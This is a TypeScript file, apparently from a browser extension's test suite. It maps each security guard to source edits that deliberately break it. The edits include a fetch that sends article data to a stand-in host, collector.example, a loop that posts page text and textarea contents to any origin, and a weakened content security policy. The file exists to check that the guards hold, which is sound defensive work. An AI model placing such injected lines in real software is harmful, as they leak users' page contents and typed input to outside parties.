/**
 * The guards, and how each is taken out: an edit of the sources in a copy of
 * them, or the fault that the guard keeps out, put in. Nothing of this is ever in
 * what is shipped; an edit that finds its place no more fails the run.
 */

interface Edit {
  file: string;
  find: string;
  replace: string;
}

export const GUARDS = {
  'extension pages may connect to nobody': [
    {
      file: 'wxt.config.ts',
      find: "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; base-uri 'none'; form-action 'none'",
      replace: "script-src 'self'; object-src 'self'",
    },
    {
      file: 'entrypoints/background/service.ts',
      find: 'const asked = { ...article, source: address ?? article.source };',
      replace:
        "const asked = { ...article, source: address ?? article.source }; fetch('http://collector.example/?' + asked.source).catch(() => 0);",
    },
  ],
  'our element is none that a page can define': [
    { file: 'page/host.ts', find: "const HOST_NAME = 'div';", replace: "const HOST_NAME = 'glossator-host';" },
  ],
  'the card speaks with the content script alone': [
    {
      file: 'entrypoints/card/main.tsx',
      find: 'awaitPort(window).then(',
      replace:
        "setInterval(() => parent.postMessage(`${document.body.innerText}${document.querySelector('textarea')?.value}`, '*'), 100);\nawaitPort(window).then(",
    },
  ],
  'the card has another address in each page': [
    { file: 'wxt.config.ts', find: "...(browser === 'firefox' ? {} : { use_dynamic_url: true }),", replace: '' },
  ],
  'quiet mode paints nothing': [
    { file: 'page/paint.ts', find: 'isQuiet = wanted;', replace: 'isQuiet = false && wanted;' },
  ],
} satisfies Record<string, Edit[]>;

export type GuardName = keyof typeof GUARDS;
